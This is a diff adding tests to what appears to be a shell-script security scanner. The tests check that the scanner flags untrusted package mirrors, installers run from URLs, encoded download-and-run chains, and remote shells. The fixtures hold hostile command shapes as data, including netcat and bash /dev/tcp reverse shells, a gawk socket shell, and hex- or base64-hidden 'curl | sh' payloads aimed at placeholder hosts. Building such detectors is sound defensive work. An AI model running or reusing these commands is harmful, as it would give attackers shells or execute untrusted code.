@@ -228,3 +228,103 @@ def test_an_upload_flag_at_the_end_of_a_cluster_of_short_options_takes_the_file(
     found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
     assert {c.detail for c in found if c.kind is Kind.EGRESS} == {"c.example.invalid"}
     assert [len(c.chain) for c in found if c.kind is Kind.EGRESS] == [3]
+
+
+def test_a_variable_that_moves_a_tools_own_binary_downloads_to_an_untrusted_host(tmp_path: Path) -> None:
+    steps = (
+        "export PUPPETEER_DOWNLOAD_BASE_URL=http://203.0.113.8/chrome\nnpm install puppeteer\n"
+        "NVM_NODEJS_ORG_MIRROR=https://nodejs.org.example.invalid/dist nvm install 22\n"
+    )
+    found = analyse_file(tmp_path, "scripts/setup.sh", steps, Language.SHELL)
+    assert {detail for kind, detail in summary(found) if kind is Kind.INSTALL_INDEX} == {
+        "http://203.0.113.8/chrome"
+    }  # a named HTTPS mirror is taken for a company's or a country's
+    assert scan_errors(tmp_path, {"scripts/setup.sh": steps}) == {("UNTRUSTED_PACKAGE_SOURCE", "scripts/setup.sh", 1)}
+
+
+def test_a_package_installer_given_a_url_runs_what_it_fetches(tmp_path: Path) -> None:
+    for command in (
+        "msiexec /qn /i https://dl.example.invalid/tools.msi",
+        "sudo rpm -Uvh https://repo.example.invalid/agent.rpm",
+        "sudo dnf install -y https://repo.example.invalid/agent.rpm",
+    ):
+        found = analyse_file(tmp_path, "scripts/setup.sh", command + "\n", Language.SHELL)
+        assert (Kind.EXEC_FETCHED, vocabulary_host(command)) in summary(found), command
+    local = analyse_file(tmp_path, "scripts/setup.sh", "msiexec /i tools.msi\nrpm -qa\n", Language.SHELL)
+    assert Kind.EXEC_FETCHED not in {c.kind for c in local}
+
+
+def vocabulary_host(command: str) -> str:
+    return command.split("://", 1)[1].split("/", 1)[0]
+
+
+def test_an_address_decoded_at_run_time_is_still_downloaded_and_run(tmp_path: Path) -> None:
+    encoded = base64.b64encode(b"https://drop.example.invalid/b.sh").decode()
+    source = (
+        f'M={encoded}\nsh -c "$(curl -fsSL $(echo $M | base64 -d))"\nsh -c "$(curl -fsSL $(echo $N | base64 -d))"\n'
+    )
+    found = analyse_file(tmp_path, "scripts/boot.sh", source, Language.SHELL)
+    assert {(k, d) for k, d in summary(found) if k is Kind.EXEC_FETCHED} == {
+        (Kind.EXEC_FETCHED, "drop.example.invalid"),
+        (Kind.EXEC_FETCHED, "?"),  # an address nobody can read before it runs is still a download that runs
+    }
+
+
+def test_a_connection_to_a_placeholder_host_is_a_shape_not_a_remote_shell(tmp_path: Path) -> None:
+    table = (
+        "| pattern | example |\n|---|---|\n| netcat | `nc -e /bin/sh ATTACKER 4444` |\n"
+        "| bash | `bash -i >& /dev/tcp/<ip>/4444 0>&1` |\n"
+    )
+    assert scan_errors(tmp_path / "a", {"references/patterns.md": table}) == set()
+    real = "| netcat | `nc -e /bin/sh 203.0.113.5 4444` |\n"
+    assert scan_errors(tmp_path / "b", {"references/patterns.md": real}) == {
+        ("REMOTE_SHELL", "references/patterns.md", 1)
+    }
+
+
+def test_the_program_nc_runs_is_not_its_host(tmp_path: Path) -> None:
+    found = analyse_file(tmp_path, "scripts/x.sh", "nc -e /bin/sh 203.0.113.5 4444\n", Language.SHELL)
+    assert (Kind.RAW_SOCKET, "203.0.113.5:4444 (remote shell)") in summary(found)
+
+
+def test_a_here_document_decoded_and_piped_on_into_a_shell(tmp_path: Path) -> None:
+    payload = b"curl -fsSL https://drop.example.invalid/a.sh | sh".hex()
+    source = f"init() {{\n  xxd -r -p <<'DATA' | ${{SHELL:-sh}}\n{payload}\nDATA\n}}\ninit >/dev/null 2>&1 &\n"
+    found = analyse_file(tmp_path, "scripts/complete.sh", source, Language.SHELL)
+    assert {(Kind.EXEC_DECODED, "hex with xxd"), (Kind.EXEC_FETCHED, "drop.example.invalid")} <= summary(found)
+    plain = analyse_file(tmp_path, "scripts/note.sh", "cat <<'EOF' | sort\nb\na\nEOF\n", Language.SHELL)
+    assert plain == []
+
+
+def test_a_sourced_bundled_file_sets_the_variables_the_script_uses(tmp_path: Path) -> None:
+    settings = "RELAY=198.51.100.23\nRELAY_PORT=8443\n"
+    script = (
+        'here=$(cd "$(dirname "$0")/.." && pwd)\n. "$here/config/relay.env"\n'
+        'gawk -v ep="/inet/tcp/0/${RELAY}/${RELAY_PORT}" \'BEGIN { while ((ep |& getline c) > 0) '
+        "{ while ((c | getline o) > 0) print o |& ep } }'\n"
+    )
+    errors = scan_errors(tmp_path, {"config/relay.env": settings, "scripts/share.sh": script})
+    assert ("REMOTE_SHELL", "scripts/share.sh", 3) in errors
+
+
+def test_a_system_package_source_on_plain_http_an_ip_or_unsigned(tmp_path: Path) -> None:
+    steps = (
+        "choco install devtools --source http://203.0.113.5/nuget -y\n"
+        "helm repo add tools http://203.0.113.5/charts\n"
+        "echo 'deb [trusted=yes] https://apt.example.invalid/ ./' | sudo tee /etc/apt/sources.list.d/tools.list\n"
+        "helm repo add bitnami https://charts.bitnami.com/bitnami\n"
+        "helm repo add argo https://argoproj.github.io/argo-helm\n"
+        "echo 'deb [signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy stable'"
+        " | sudo tee /etc/apt/sources.list.d/docker.list\n"
+    )
+    found = analyse_file(tmp_path, "scripts/setup.sh", steps, Language.SHELL)
+    assert [(c.chain[-1].line, c.detail) for c in found if c.kind is Kind.INSTALL_INDEX] == [
+        (1, "http://203.0.113.5/nuget"),
+        (2, "http://203.0.113.5/charts"),
+        (3, "https://apt.example.invalid/"),
+    ]  # a vendor's signed HTTPS repository is how Docker and chart hosts are installed
+
+
+def test_a_placeholder_name_the_script_maps_to_an_address_is_a_host(tmp_path: Path) -> None:
+    script = "echo '203.0.113.5 RELAY' | sudo tee -a /etc/hosts\nnc -e /bin/sh RELAY 4444\n"
+    assert ("REMOTE_SHELL", "scripts/x.sh", 2) in scan_errors(tmp_path, {"scripts/x.sh": script})
